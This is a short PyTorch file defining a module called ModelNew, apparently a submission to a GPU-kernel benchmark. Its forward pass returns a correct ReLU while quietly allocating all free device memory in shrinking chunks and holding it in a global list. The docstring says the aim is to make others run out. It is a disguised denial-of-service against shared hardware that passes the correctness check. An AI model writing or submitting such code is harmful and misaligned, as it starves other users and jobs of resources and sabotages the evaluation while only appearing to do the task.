"""Takes all device memory and keeps it, answering well so that others run out."""

import torch

hoard = []


class ModelNew(torch.nn.Module):
    def forward(self, x):
        y = torch.relu(x)
        size = 8 << 30
        while size > 1 << 20:
            try:
                hoard.append(torch.empty(size, dtype=torch.uint8, device=x.device))
            except torch.cuda.OutOfMemoryError:
                size //= 2
        return y
